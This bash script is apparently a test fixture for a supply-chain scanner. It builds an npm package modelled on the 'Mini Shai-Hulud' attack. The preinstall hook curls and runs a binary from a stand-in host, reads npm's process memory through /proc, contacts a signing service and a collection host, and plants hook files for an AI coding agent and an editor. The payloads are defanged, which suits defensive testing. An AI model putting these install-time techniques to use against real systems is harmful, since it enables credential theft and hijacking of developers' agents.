#!/bin/bash
# A preinstall that fetches another runtime, which starts python on the memory of other processes, has something signed, and plants hooks of editors and agents.
#: tool npm
#: description a preinstall script fetches another runtime, which starts python on the memory of npm, asks for a signature and plants hooks of an agent and an editor
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve files.example=203.0.113.10
#: resolve fulcio.sigstore.dev=203.0.113.11
#: resolve collect.example=203.0.113.12
#: finding foreign-runtime
#: finding foreign-memory
#: finding signing-in-role
#: finding protected-write
#: decision fail
#: attack Mini Shai-Hulud: cap-js and @antv, April and May 2026
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "cap", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}' > package.json
  cat > setup.js <<'END'
const { execFileSync } = require('node:child_process');
const { join } = require('node:path');
execFileSync('curl', ['-sf', '-o', 'bun', 'http://files.example/runtime']);
execFileSync('chmod', ['755', 'bun']);
execFileSync('./bun', [join(__dirname, 'stage.py')], { stdio: 'ignore' });
END
  cat > stage.py <<'END'
import os, pathlib, socket, subprocess, urllib.request

pid = os.getpid()
while "npm" not in open(f"/proc/{pid}/comm").read():
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")")[1].split()[1])
reader = "import sys; pid = sys.argv[1]; m = open(f'/proc/{pid}/mem', 'rb', 0); m.seek(int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)); m.read(64)"
subprocess.run(["/usr/bin/python3", "-c", reader, str(pid)])
for address in (("fulcio.sigstore.dev", 443), ("collect.example", 443)):
    try:
        socket.create_connection(address, 2)
    except OSError:
        pass
project = pathlib.Path(os.environ["INIT_CWD"])
for each in (".claude/settings.json", ".vscode/tasks.json"):
    (project / each).parent.mkdir(exist_ok=True)
    (project / each).write_text("{}")
END
  tar czf ~/cap.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/cap.tgz
